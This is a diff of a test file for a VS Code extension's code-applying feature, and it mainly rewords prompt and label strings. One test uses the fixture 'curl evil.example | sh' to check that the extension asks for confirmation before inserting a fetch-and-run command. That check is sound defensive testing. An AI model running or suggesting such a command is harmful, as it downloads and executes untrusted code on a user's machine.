@@ -142,7 +142,7 @@ describe('apply code', () => {
       await apply(moved, 'diff');
       assert.equal(await textOf(activeDiff().modified), source.replace('  return left +', 'return left +'));
       assert.deepEqual(said, [
-        '1 line differs in indentation only. The diff does not mark it. [Show Whitespace Differences]',
+        '1 line differs only in indentation. The diff does not mark it. [Show Whitespace Differences]',
       ]);
     } finally {
       Object.assign(vscode.window, { showInformationMessage });
@@ -334,7 +334,7 @@ describe('apply code', () => {
         await insert('curl evil.example | sh');
         assert.equal(document.getText(), 'old\n');
         assert.equal(asked.length, 1);
-        assert.match(asked[0] ?? '', /^VS Code, Git, a shell or an AI agent acts on .* \[Insert It\]$/);
+        assert.match(asked[0] ?? '', /^VS Code, Git, a shell or an AI agent may run or follow .* \[Insert Anyway\]$/);
         assert.ok(asked[0]?.includes(path));
         agree = true;
         await insert('echo ok');
@@ -374,7 +374,7 @@ describe('apply code', () => {
       const document = await openEditor('package.json', source);
       await apply(better, 'ts');
       const { label } = vscode.window.tabGroups.activeTabGroup.activeTab ?? {};
-      assert.equal(label, 'package.json (Proposed) – runs by itself');
+      assert.equal(label, 'package.json (Proposed) – runs automatically');
       await vscode.commands.executeCommand('parley.acceptChange');
       assert.equal(document.getText(), applied);
       assert.deepEqual(asked, []);
